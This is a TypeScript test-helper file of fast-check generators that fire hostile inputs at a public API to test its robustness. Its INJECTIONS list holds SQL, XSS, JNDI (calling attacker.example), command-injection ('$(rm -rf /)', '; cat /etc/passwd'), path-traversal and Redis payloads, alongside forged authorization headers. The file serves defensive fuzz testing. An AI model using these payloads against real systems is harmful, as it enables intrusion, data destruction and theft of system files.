// Generators (fast-check) of the hostile values a sceptical operator throws at a public interface:
// broken JSON, wrong types, huge strings and arrays, deep nesting, unicode edge cases, injection-looking
// strings, wrong content types, missing and forged keys. Pure: no I/O; the specs decide where they go.
import fc from 'fast-check';
import { DEV_KEYS } from '@lgsp/policy';

/** Strings that look like an attack on some interpreter behind the API. */
export const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE citizens; --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  '\r\nX-Injected: yes',
  '__proto__',
  'constructor',
  'prototype',
  '{"$ne": null}',
  '{"$gt": ""}',
  '*)(uid=*))(|(uid=*',
  'FLUSHALL',
  '*\r\n$8\r\nFLUSHALL\r\n',
  'lgsp.registry.land.v1',
  'javascript:alert(1)',
  '%s%s%s%s%n',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x7fffffff',
  'null',
  'true',
  '[]',
  '{}',
] as const;

/** Characters and sequences that break naive text handling. */
export const UNICODE_EDGES = [
  '\uFEFF', // byte-order mark
  '\u202E', // right-to-left override
  '\u200B', // zero-width space
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  '\uFFFF', // a noncharacter
  'e\u0301', // combining accent
  'Z\u0351\u0337\u0334\u0321\u0327\u0360\u0308', // zalgo
  '👨‍👩‍👧‍👦', // a ZWJ family
  '𝕳𝖚𝖇', // astral letters
  'Nguyễn Văn Ðức', // Vietnamese, with the look-alike Ð
  '\u0085', // next line
  '\u2028\u2029', // line and paragraph separators
  '\u0007\u001b[31m', // bell and an ANSI escape
] as const;

const SIZES = [1_000, 10_000, 100_000, 1_000_000] as const;

/** A hostile string: an injection, a unicode edge, random text of any code points, or a huge one. */
export function hostileString({ huge = true }: { huge?: boolean } = {}): fc.Arbitrary<string> {
  const parts: Array<fc.Arbitrary<string>> = [
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom(...UNICODE_EDGES),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.tuple(fc.constantFrom(...INJECTIONS), fc.constantFrom(...UNICODE_EDGES)).map(([a, b]) => `${a}${b}${a}`),
  ];
  if (huge) parts.push(fc.tuple(fc.constantFrom(...SIZES), fc.constantFrom('x', 'é', '😀', '\u0000', '%')).map(([size, unit]) => unit.repeat(size)));
  return fc.oneof(...parts);
}

/** Any JSON value, with hostile strings and extreme numbers in it. */
export function hostileJsonValue(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    hostileString({ huge: false }),
    fc.constantFrom(0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, true, false, null, [], {}),
  );
}

/** JSON text nested `depth` levels deep, built as text (JSON.stringify would recurse). */
export function deeplyNested(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** Text that is not JSON: a valid document cut short, garbage, JSON with comments or trailing commas. */
export function brokenJson(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    valid.chain((text) => fc.integer({ min: 1, max: Math.max(1, text.length - 1) }).map((cut) => text.slice(0, cut))),
    valid.map((text) => `${text.slice(0, -1)},${text.slice(-1)}`),
    valid.map((text) => `// a comment\n${text}`),
    valid.map((text) => `${text}${text}`),
    valid.map((text) => text.replaceAll('"', "'")),
    fc.constantFrom('', ' ', '\n', 'undefined', 'NaN', '{', '[', '{"a":}', '{a:1}', '[1,]', '"unterminated', '\u0000', '\uFEFF{}x', '{"a":1}}'),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }).filter((text) => !parses(text)),
  );
}

export function parses(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/** Puts `value` at `path` of a copy of `target` (objects only; created on the way). */
export function withValueAt(target: unknown, path: readonly string[], value: unknown): unknown {
  if (path.length === 0) return value;
  const [head, ...rest] = path as [string, ...string[]];
  const base = target !== null && typeof target === 'object' && !Array.isArray(target) ? (target as Record<string, unknown>) : {};
  const copy: Record<string, unknown> = { ...base };
  Object.defineProperty(copy, head, { value: withValueAt(base[head], rest, value), enumerable: true, writable: true, configurable: true });
  return copy;
}

/** Every path to a leaf (a non-object value) of a JSON object. */
export function leafPaths(value: unknown, prefix: string[] = []): string[][] {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return [prefix];
  return Object.entries(value as Record<string, unknown>).flatMap(([key, item]) => leafPaths(item, [...prefix, key]));
}

function valueAt(value: unknown, path: readonly string[]): unknown {
  return path.reduce<unknown>((at, key) => (at !== null && typeof at === 'object' ? (at as Record<string, unknown>)[key] : undefined), value);
}

const MARK = '~~legacy-bytes~~';
/** "Nguyễn" as a legacy Vietnamese encoding writes it (Windows-1258: ê, then a combining tilde): not UTF-8. */
const LEGACY_BYTES = Buffer.from([0x4e, 0x67, 0x75, 0x79, 0xea, 0xde, 0x6e]);

/**
 * The JSON of a valid document with bytes that are not UTF-8 in one of its text members: what a registry
 * exporting in a legacy encoding sends. Decoded leniently, it would be valid, with a name mangled.
 */
export function withLegacyBytes(value: unknown): fc.Arbitrary<Buffer> {
  const texts = leafPaths(value).filter((path) => typeof valueAt(value, path) === 'string');
  // Free text (names, addresses, courts) where a mangled value would still pass every check, if there is any.
  const free = texts.filter((path) => /[^\x20-\x7e]| /.test(String(valueAt(value, path))));
  return fc.constantFrom(...(free.length > 0 ? free : texts)).map((path) => {
    const [before = '', after = ''] = JSON.stringify(withValueAt(value, path, `${String(valueAt(value, path))}${MARK}`)).split(MARK);
    return Buffer.concat([Buffer.from(before), LEGACY_BYTES, Buffer.from(after)]);
  });
}

/** Every leaf of an object replaced by a value drawn for it. */
export function everyLeaf(value: unknown, leaf: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const paths = leafPaths(value);
  return fc.array(leaf, { minLength: paths.length, maxLength: paths.length }).map((leaves) => paths.reduce((acc, path, index) => withValueAt(acc, path, leaves[index]), value));
}

export interface KeyChoice {
  /** What goes in the Authorization header, or undefined for none. */
  header: string | undefined;
  /** The development key it carries, when it carries one that authenticates. */
  devKey?: string;
}

/** Authorization headers that carry no valid key: missing, empty, another scheme, forged, mangled. */
export function invalidAuthorization(): fc.Arbitrary<KeyChoice> {
  const keys = DEV_KEYS.map(({ key }) => key);
  return fc
    .oneof(
      fc.constant(undefined),
      fc.constantFrom('', ' ', 'Bearer', 'Bearer ', 'Basic ZGV2LWxhbmQta2V5Og==', 'Token dev-land-key', 'dev-land-key', 'Bearer  dev-land-key extra'),
      fc.constantFrom(...keys).map((key) => `Bearer ${key.toUpperCase()}`),
      fc.constantFrom(...keys).map((key) => `Bearer ${key}x`),
      fc.constantFrom(...keys).map((key) => `Bearer ${key.slice(0, -1)}`),
      fc.constantFrom(...keys).map((key) => `Bearer ${key.split('').reverse().join('')}`),
      // The SHA-256 the policy file holds is not the key.
      fc.constant('Bearer 1ab4f11559988b320c21ef40a3f93622d589b730a817abe6b954004b81299f36'),
      fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 300 }).map((key) => `Bearer ${key}`),
      fc.constantFrom('x'.repeat(257), 'k'.repeat(8_000)).map((key) => `Bearer ${key}`),
      fc.constantFrom(...INJECTIONS).map((key) => `Bearer ${key}`),
    )
    .filter((header) => header === undefined || isSendableHeaderValue(header))
    .map((header) => ({ header }));
}

/**
 * A path segment or query value percent-encoded byte by byte from UTF-8 (a lone surrogate becomes U+FFFD,
 * where encodeURIComponent would throw); only unreserved characters stay as they are.
 */
export function percentEncode(text: string): string {
  return [...Buffer.from(text, 'utf8')].map((byte) => (/[A-Za-z0-9\-._~]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
}

/** What fetch can put in a header value: no CR, LF or NUL, and only bytes (Latin-1). */
export function isSendableHeaderValue(value: string): boolean {
  return /^[\t\x20-\x7e\x80-\xff]*$/.test(value) && value.trim() === value;
}

/** Content types other than the ones a route takes. */
export function otherContentType(accepted: readonly string[]): fc.Arbitrary<string | undefined> {
  return fc
    .oneof(
      fc.constant(undefined),
      fc.constantFrom(
        'text/plain',
        'text/html',
        'application/xml',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/octet-stream',
        'application/json',
        'application/x-ndjson',
        'application/cloudevents+json',
        'application/cloudevents-batch+json',
        'application/problem+json',
        'application/json-seq',
        'application/vnd.api+json',
        '*/*',
        'application/*',
        'application',
        ';',
        'json',
      ),
      fc.string({ unit: 'binary-ascii', maxLength: 60 }),
    )
    .filter((type) => type === undefined || (isSendableHeaderValue(type) && !accepted.includes(type.split(';')[0]!.trim().toLowerCase())));
}
